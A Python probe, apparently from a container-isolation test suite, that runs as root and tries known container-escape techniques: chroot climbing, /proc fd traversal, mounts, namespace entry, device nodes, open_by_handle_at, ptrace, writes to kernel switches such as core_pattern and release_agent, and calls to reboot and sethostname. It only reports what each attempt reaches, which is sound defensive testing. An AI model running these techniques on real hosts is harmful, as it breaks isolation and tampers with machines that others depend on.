"""Runs as root in a container and tries to leave it; prints what it got. Standard library only: it is given to `python3 -`.

Arguments: paths of the machine that must stay out of sight, and writable folders of the container.
"""

import ctypes
import errno
import json
import os
import stat
import sys

SECRETS, FOLDERS = json.loads(sys.argv[1]), json.loads(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWPID = 0x20000, 0x10000000, 0x20000000
got = []


def seen(prefix):
    """Secrets that are there below a prefix."""
    found = []
    for path in SECRETS:
        try:
            os.lstat(prefix + path)
            found.append(prefix + path)
        except OSError:
            pass
    return found


def apart(name, run):
    """What `run` gets, in a child of its own."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            found = run()
        except OSError:
            found = []
        os.write(write, json.dumps(found).encode())
        os._exit(0)
    os.close(write)
    data = b""
    while more := os.read(read, 65536):
        data += more
    os.waitpid(pid, 0)
    got.extend(f"{name}: {f}" for f in json.loads(data or b"[]"))


def call(name, *args):
    if getattr(libc, name)(*args) != 0:
        raise OSError(ctypes.get_errno(), name)


def climb():
    """The classic: a second chroot with an open folder outside of it."""
    up = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    os.fchdir(up)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return seen("")


def roots():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in ("root", "cwd"):
            found += seen(f"/proc/{pid}/{link}")
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if stat.S_ISDIR(os.stat(f"/proc/{pid}/fd/{fd}").st_mode) and not target.startswith("/proc"):
                    found += seen(f"/proc/{pid}/fd/{fd}/..") + seen(f"/proc/{pid}/fd/{fd}/../../../../../..")
        except OSError:
            pass
    return found


def mounts():
    """Mounting anything is more than a container may."""
    os.makedirs("/tmp/m", exist_ok=True)
    found = []
    for source, kind, flags in ((b"tmpfs", b"tmpfs", 0), (b"/", None, 4096), (b"proc", b"proc", 0), (b"none", b"devtmpfs", 0)):
        if libc.mount(source, b"/tmp/m", kind, flags, None) == 0:
            found.append(f"mounted {source.decode()} {kind}")
    if libc.umount2(b"/proc/sys", 2) == 0 or libc.umount2(b"/", 2) == 0:
        found.append("unmounted")
    if libc.mount(b"none", b"/proc/sys", None, 32 | 4096, None) == 0:
        found.append("made /proc/sys writable")
    return found


def namespaces():
    """As root of a user namespace of its own it still sees nothing, and what was locked stays locked."""
    call("unshare", NEWUSER | NEWNS)
    for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
        try:
            with open(f"/proc/self/{name}", "w") as f:
                f.write(text)
        except OSError:
            pass
    found = seen("")
    libc.umount2(b"/", 2)
    found += seen("") + seen("/..")
    if libc.mount(b"none", b"/proc/sys", None, 32 | 4096, None) == 0:
        found.append("made /proc/sys writable")
    return found


def enter():
    """Other namespaces through /proc."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name, kind in (("mnt", NEWNS), ("user", NEWUSER)):
            try:
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(fd, kind) == 0:
                found += seen("") or [f"entered {name} of {pid}"]
    return found


def devices():
    """Device nodes may be made, but not opened: the machine's disks and memory."""
    numbers = [(stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 1, 2), (stat.S_IFCHR, 1, 4), (stat.S_IFBLK, 7, 0)]
    try:
        with open("/proc/partitions") as f:
            numbers += [(stat.S_IFBLK, int(x[0]), int(x[1])) for x in (line.split() for line in f) if x and x[0].isdigit()]
    except OSError:
        pass
    numbers.append((stat.S_IFCHR, 1, 3))  # null itself: what opens here would open anything
    found = []
    for folder in [*FOLDERS, "/dev", "/dev/shm", "/tmp", "/run", "/usr", "/"]:
        for kind, major, minor in numbers:
            path = f"{folder.rstrip('/')}/node"
            try:
                os.mknod(path, kind | 0o600, os.makedev(major, minor))
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                found.append(f"opened {major}:{minor} in {folder}")
            except OSError:
                pass
            try:
                os.unlink(path)
            except OSError:
                pass
    return found


def handles():
    """open_by_handle_at, the way past every mount namespace."""
    found = []
    for start in (b"/etc/hosts", b"/dev/null", b"/"):
        mount_fd = os.open(start, os.O_RDONLY)
        handle = (ctypes.c_char * 136)()
        ctypes.memmove(handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"), 16)
        if libc.open_by_handle_at(mount_fd, handle, os.O_RDONLY) >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
            found.append(f"a handle beside {start.decode()}: {os.strerror(ctypes.get_errno())}")
    return found


def processes():
    """Only its own are there; nothing else can be traced, read or signalled."""
    libc.ptrace.restype = ctypes.c_long
    found = []
    for pid in range(1, 400):
        if pid == os.getpid() or not os.path.exists(f"/proc/{pid}"):
            if pid != os.getpid() and libc.ptrace(16, pid, None, None) == 0:
                found.append(f"traced {pid}")
            continue
        try:
            with open(f"/proc/{pid}/cmdline") as f:
                if any(word in f.read() for word in ("seaway.cluster", "init.py", "zygote", "pytest")):
                    found.append(f"sees process {pid}")
        except OSError:
            pass
    return found


def kernel():
    """Switches of the machine."""
    found = []
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
                 "/sys/power/state", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/proc/kcore", "/dev/mem"):
        try:
            os.close(os.open(path, os.O_RDWR))
            found.append(f"may write {path}")
        except OSError:
            pass
    if libc.sethostname(b"taken", 5) == 0 or libc.reboot(0) == 0 or libc.swapoff(b"/none") == 0:
        found.append("a system call that is the machine's")
    return found


def programs():
    """The program behind a process is the machine's file: a container must not get hold of one of ours to write to."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            target = os.readlink(f"/proc/{pid}/exe")
            fd = os.open(f"/proc/{pid}/exe", os.O_PATH)
        except OSError:
            continue
        try:
            os.close(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY))
            found.append(f"may write {target}")
        except OSError as e:
            if e.errno == errno.ETXTBSY and not os.path.exists(target):
                found.append(f"holds {target}")
    return found


apart("sight", lambda: seen("") + seen("/.."))
for attempt in (climb, roots, mounts, namespaces, enter, devices, handles, processes, kernel, programs):
    apart(attempt.__name__, attempt)
print(json.dumps(got))
